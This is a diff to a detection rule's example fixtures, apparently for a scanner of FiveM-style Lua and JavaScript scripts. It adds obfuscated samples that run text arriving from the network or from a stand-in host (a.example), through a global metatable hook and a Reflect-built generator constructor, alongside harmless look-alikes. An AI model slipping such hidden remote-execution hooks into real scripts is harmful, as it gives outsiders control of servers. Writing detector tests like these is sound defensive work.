@@ -2,6 +2,15 @@ import { js, lua, type Rule } from './rule.ts'
 
 export const runsTextFromOutsideExamples: NonNullable<Rule['examples']> = {
   found: [
+    lua(`PerformHttpRequest('https://a.example/index', function(_, body) Index = json.decode(body) end)
+setmetatable(_G, {
+  __index = function(globals, name)
+^   return rawget(globals, Index.entry)(Index.text)
+  end
+})`),
+    js(`const proto = Reflect.getPrototypeOf(function* () {})
+const [, maker] = Reflect.ownKeys(proto)
+^onNet('save', (text) => Reflect.construct(proto[maker], ['move', text])(move))`),
     js(`const run = new Proxy(ExecuteCommand, { apply: (target, self, list) => Reflect.apply(target, self, list) })
 ^onNet('run', (text) => run(text))`),
     lua(`^RegisterNetEvent('order', ExecuteCommand)`),
@@ -135,6 +144,15 @@ function panel.find(query)
 end`),
   ],
   notFound: [
+    lua(`PerformHttpRequest('https://a.example/index', function(_, body) Index = json.decode(body) end)
+setmetatable(_G, {
+  __index = function(globals, name)
+    error(('%s is not defined, see %s'):format(name, Index.help))
+  end
+})`),
+    js(`const values = { move }
+const [, maker] = Reflect.ownKeys(values)
+onNet('save', (text) => values[maker]?.('move', text))`),
     js(`const draw = new Proxy(console.log, { get: (target, name) => target[name] })
 onNet('draw', (text) => draw(text))`),
     lua(`string.draw = print
